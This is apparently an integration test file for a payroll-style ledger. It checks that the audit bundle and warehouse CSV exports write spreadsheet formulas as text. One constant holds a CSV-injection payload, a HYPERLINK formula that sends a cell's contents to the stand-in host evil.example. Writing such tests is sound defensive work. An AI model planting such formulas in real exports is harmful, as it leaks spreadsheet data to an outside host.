"""The CSV files the ledger writes never hand a spreadsheet a formula (OWASP "CSV injection").

Someone who can produce to the events topic writes an envelope whose `branch` is `=HYPERLINK(...)` and whose
`recorded_at` is `@SUM(...)`, with hashes that match (the chain hash covers the branch, so an auditor's tools
accept it). The audit bundle and the warehouse must write those cells as text (`'=HYPERLINK(...)`), keep numbers as
numbers, keep the originals exact in events.jsonl and the warehouse's `data` column, and `verify-export` must still
find the bundle intact.
"""

from __future__ import annotations

import csv
import io
import uuid
from datetime import date
from typing import Any

import orjson
import pytest

from consumers.warehouse import exporter
from ledger.application import Ledger
from ledger.audit.export import verify_bundle, write_bundle
from ledger.commands import RegisterEmployer
from ledger.domain import INTERNAL_EVENT_TOPICS
from ledger.events import chain_hash
from ledger.publishing import kafka_client
from ledger.publishing.envelope import envelope, record_headers
from tests.support.kafka_roles import TEAMS

pytestmark = pytest.mark.integration

FORMULA_BRANCH = '=HYPERLINK("http://evil.example/?leak="&A1,"open")'
FORMULA_RECORDED_AT = "@SUM(1+1)"
IDLE_S = 10


def hostile_envelope() -> dict[str, Any]:
    """A real EmployerRegistered envelope, its branch and recording time replaced by formulas, its hash recomputed."""
    app = Ledger(env={"PERSISTENCE_MODULE": "eventsourcing.popo"}, clock=lambda: date(2026, 11, 23), nik_key=None)
    app.execute(RegisterEmployer(npp="10012345", name="PT Maju Jaya", branch="BEKASI-KOTA", kind="company",
                                 risk_class="low", registered_on=date(2015, 7, 1)))
    (notification,) = [n for n in app.recorder.select_notifications(start=1, limit=10)
                       if n.topic not in INTERNAL_EVENT_TOPICS]
    env = orjson.loads(envelope(notification, 1)[1])
    env.update(branch=FORMULA_BRANCH, recorded_at=FORMULA_RECORDED_AT)
    env["hash"] = chain_hash(env["prev_hash"], aggregate_id=env["aggregate_id"],
                             aggregate_version=env["aggregate_version"], event_type=env["type"],
                             version=env["version"], effective_date=env["effective_date"], branch=env["branch"],
                             data=env["data"])
    return env


def rows(text: str) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(text)))


def test_the_audit_bundle_writes_formulas_as_text_and_verifies(tmp_path) -> None:
    env = hostile_envelope()
    out = tmp_path / "bundle"

    write_bundle(out, "ledger.events", date(2015, 1, 1), date(2015, 12, 31), [orjson.dumps(env)])

    (event,) = rows((out / "events.csv").read_text(encoding="utf-8"))
    assert (event["branch"], event["recorded_at"]) == ("'" + FORMULA_BRANCH, "'" + FORMULA_RECORDED_AT)
    assert (event["position"], event["event_id"], event["hash"]) == ("1", env["event_id"], env["hash"])
    (totals,) = rows((out / "totals.csv").read_text(encoding="utf-8"))
    assert (totals["branch"], totals["events"]) == ("'" + FORMULA_BRANCH, "1")
    # The record itself stays exact: events.jsonl holds the bytes as published, totals.json the branch as it is.
    assert orjson.loads((out / "events.jsonl").read_bytes()) == env
    assert list(orjson.loads((out / "totals.json").read_bytes())["branches"]) == [FORMULA_BRANCH]
    check = verify_bundle(out)
    assert (check.ok, check.problem, check.events) == (True, None, 1)


def test_the_warehouse_writes_formulas_as_text(tmp_path, kafka_roles) -> None:
    env = hostile_envelope()
    prefix = f"test-formulas-{uuid.uuid4().hex[:10]}"
    team, group = TEAMS[1], f"{prefix}-warehouse"  # the warehouse team, in a group of its own
    topics = kafka_roles.provision(prefix, partitions=1, teams=[group], team_principal=team)
    producer = kafka_client.producer(kafka_roles.admin)  # the someone: a principal that may write the topic
    producer.send(topics.events, key=env["aggregate_id"].encode(), value=orjson.dumps(env),
                  headers=record_headers(env["type"], env["version"]))
    producer.flush()
    producer.close()

    warehouse = exporter(kafka_roles.connection(team), topics.events, tmp_path / "warehouse", group_id=group,
                         start="beginning")
    assert warehouse.run(idle_timeout_s=IDLE_S, handle_signals=False).handled == 1

    (row,) = rows((tmp_path / "warehouse" / "month=2015-07" / "events-p0.csv").read_text(encoding="utf-8"))
    assert (row["branch"], row["recorded_at"]) == ("'" + FORMULA_BRANCH, "'" + FORMULA_RECORDED_AT)
    assert (row["position"], row["npp"]) == ("1", "10012345")
    assert orjson.loads(row["data"]) == env["data"]
